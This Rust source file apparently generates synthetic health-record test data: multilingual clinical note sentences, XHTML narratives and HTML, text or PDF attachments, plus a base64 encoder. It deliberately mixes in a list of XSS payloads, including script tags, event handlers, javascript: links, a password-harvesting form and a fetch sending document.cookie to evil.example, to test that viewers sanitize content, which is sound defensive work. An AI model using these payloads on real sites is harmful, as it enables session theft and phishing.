//! Free text: narratives, notes and document bodies.
//!
//! Records from portals carry XHTML narratives that a viewer must never run, so a
//! share of them here are hostile on purpose (script, event handlers,
//! `javascript:` links, iframes, `<base>`, CSS `url()`, SVG, mXSS shapes). They
//! are plain data for the generator; the JSON writer escapes them like any
//! string. Notes also carry the characters that break naive code: quotes,
//! backslashes, tabs, newlines, emoji, bidi controls.

use crate::random::{chance, one, R};
use rand::Rng;

pub(crate) const XHTML_OPEN: &str = "<div xmlns=\"http://www.w3.org/1999/xhtml\">";

const HOSTILE: &[&str] = &[
    "<script>alert('ownchart-xss')</script>",
    "<img src=\"x\" onerror=\"alert(document.cookie)\"/>",
    "<a href=\"javascript:alert(1)\">View full report</a>",
    "<a href=\" JaVaScRiPt:alert(2)\">Open</a>",
    "<iframe src=\"https://evil.example/phish\" width=\"0\" height=\"0\"></iframe>",
    "<base href=\"https://evil.example/\"/>",
    "<p style=\"background-image: url('https://evil.example/track.gif')\">Results</p>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script><a href=\"javascript:alert(3)\"><text>chart</text></a></svg>",
    "<style>@import url(https://evil.example/x.css); p { background: url(\"javascript:alert(4)\") }</style>",
    "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"/><button>Verify</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y.swf\"/>",
    "<link rel=\"stylesheet\" href=\"https://evil.example/z.css\"/>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">attachment</a>",
    "<div onmouseover=\"fetch('https://evil.example/?c='+document.cookie)\">hover for details</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>",
    "</div><script>alert('break out')</script><div>",
    "<img src=\"https://evil.example/pixel.png?who=patient\" width=\"1\" height=\"1\"/>",
    "<!-- <script>alert(7)</script> --><![CDATA[<script>alert(8)</script>]]>",
    "<input autofocus=\"\" onfocus=\"alert(9)\"/>",
    "<table background=\"javascript:alert(10)\"><tr><td>x</td></tr></table>",
];

/// Sentences for notes and descriptions, clinical in tone, awkward in bytes.
const SENTENCES: &[&str] = &[
    "Patient reports intermittent chest discomfort, worse on exertion.",
    "Follow up in 3–4 weeks; call sooner if symptoms worsen.",
    "Pt. states: \"I've been taking ½ tablet since Tuesday.\"",
    "Temp 38.5 °C, SpO₂ 94 % on room air.",
    "Allergies reviewed — no changes. ✔",
    "Discussed diet & exercise; goal HbA1c < 7 %.",
    "Interpreter used (العربية).",
    "Interpreter used (עברית); patient prefers written instructions.",
    "Interpreter: 普通话. Family present at bedside.",
    "Scanned from C:\\Users\\scan\\Documents\\report (2).pdf",
    "Vitals stable.\nNo acute distress.\tAlert & oriented ×3.",
    "Feeling 🤒 then better 💊; thanks to the 👩🏽‍⚕️ team.",
    "Note contains a right-to-left mark \u{200F}ملاحظة\u{200F} in the middle.",
    "Filename seen by patient: \u{202E}fdp.exe\u{202C}",
    "Zero\u{200B}width joiner test; soft\u{00AD}hyphen.",
    "Denies fever, chills, night sweats. Weight stable at 72 kg.",
    "Lab drawn fasting ≥ 8 h. Results to be released to portal.",
    "Père du patient : infarctus à 54 ans.",
    "Patientin berichtet über Schwindel beim Aufstehen; Blutdruck im Stehen gemessen.",
    "Pasient har hatt hodepine i to uker; ingen synsforstyrrelser.",
    "Continue current regimen. Return precautions given.",
    "Smoking cessation counseling provided (>3 minutes).",
    "Right knee: mild effusion, no erythema; ROM 0–120°.",
    "Reviewed outside records from 'St. Mary's' — see scanned media.",
];

/// `&`, `<`, `>` and quotes escaped, for text placed inside XHTML.
pub(crate) fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for ch in s.chars() {
        match ch {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            _ => out.push(ch),
        }
    }
    out
}

/// A few sentences of note text.
pub(crate) fn sentences(r: &mut R, count: usize) -> String {
    let mut s = String::new();
    for k in 0..count {
        if k > 0 {
            s.push(' ');
        }
        s.push_str(one(r, SENTENCES));
    }
    s
}

/// An XHTML narrative `div` over `rows` (label, value), the shape generated
/// narratives take; with `hostile`, one to three attack payloads mixed in.
pub(crate) fn narrative(r: &mut R, title: &str, rows: &[(&str, String)], hostile: bool) -> String {
    let mut s = String::with_capacity(512);
    s.push_str(XHTML_OPEN);
    s.push_str("<h3>");
    s.push_str(&xml_escape(title));
    s.push_str("</h3><table class=\"grid\"><tbody>");
    for (label, value) in rows {
        s.push_str("<tr><th>");
        s.push_str(&xml_escape(label));
        s.push_str("</th><td>");
        s.push_str(&xml_escape(value));
        s.push_str("</td></tr>");
    }
    s.push_str("</tbody></table>");
    if hostile {
        for _ in 0..r.gen_range(1..=3) {
            s.push_str(one(r, HOSTILE));
        }
    }
    if chance(r, 0.3) {
        s.push_str("<p>");
        s.push_str(&xml_escape(&sentences(r, 2)));
        s.push_str("</p>");
    }
    s.push_str("</div>");
    s
}

/// One hostile payload, for places such as a DiagnosticReport conclusion.
pub(crate) fn hostile_snippet(r: &mut R) -> &'static str {
    one(r, HOSTILE)
}

/// The kinds of inline document a DocumentReference carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum DocKind {
    Html,
    Plain,
    Pdf,
}

impl DocKind {
    pub(crate) fn content_type(self) -> &'static str {
        match self {
            DocKind::Html => "text/html",
            DocKind::Plain => "text/plain",
            DocKind::Pdf => "application/pdf",
        }
    }
}

/// A document body of about `size` bytes. HTML bodies are hostile: a viewer that
/// renders an attachment must sandbox it.
pub(crate) fn document(
    r: &mut R,
    kind: DocKind,
    title: &str,
    canary: Option<&str>,
    size: usize,
) -> Vec<u8> {
    let mut body = String::with_capacity(size + 1024);
    let paragraph = |r: &mut R, body: &mut String| {
        let n = r.gen_range(2..6);
        let text = sentences(r, n);
        match kind {
            DocKind::Html => {
                body.push_str("<p>");
                body.push_str(&xml_escape(&text));
                body.push_str("</p>\n");
                if chance(r, 0.15) {
                    body.push_str(one(r, HOSTILE));
                    body.push('\n');
                }
            }
            DocKind::Plain | DocKind::Pdf => {
                body.push_str(&text);
                body.push_str("\n\n");
            }
        }
    };
    match kind {
        DocKind::Html => {
            body.push_str("<!DOCTYPE html><html><head><meta charset=\"utf-8\"/><title>");
            body.push_str(&xml_escape(title));
            body.push_str(
                "</title><script src=\"https://evil.example/a.js\"></script></head><body>\n",
            );
        }
        DocKind::Plain => {
            body.push_str(title);
            body.push_str("\n========\n\n");
        }
        DocKind::Pdf => {
            body.push_str("%PDF-1.4\n%\u{e2}\u{e3}\u{cf}\u{d3}\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n");
            body.push_str("2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n");
            body.push_str("3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >> endobj\n4 0 obj << >> stream\nBT /F1 12 Tf (");
            body.push_str(title);
            body.push_str(") Tj ET\n");
        }
    }
    if let Some(c) = canary {
        body.push_str(c);
        body.push('\n');
    }
    while body.len() < size {
        paragraph(r, &mut body);
    }
    match kind {
        DocKind::Html => body.push_str("</body></html>\n"),
        DocKind::Plain => {}
        DocKind::Pdf => body.push_str("endstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
    }
    body.into_bytes()
}

/// Standard base64 with padding (RFC 4648), as FHIR's `base64Binary` wants.
pub(crate) fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        let sym = |shift: u32| char::from(ALPHABET[((n >> shift) & 63) as usize]);
        out.push(sym(18));
        out.push(sym(12));
        out.push(if chunk.len() > 1 { sym(6) } else { '=' });
        out.push(if chunk.len() > 2 { sym(0) } else { '=' });
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    #[test]
    fn base64_matches_rfc_4648_vectors() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(plain.as_bytes()), encoded);
        }
    }
}
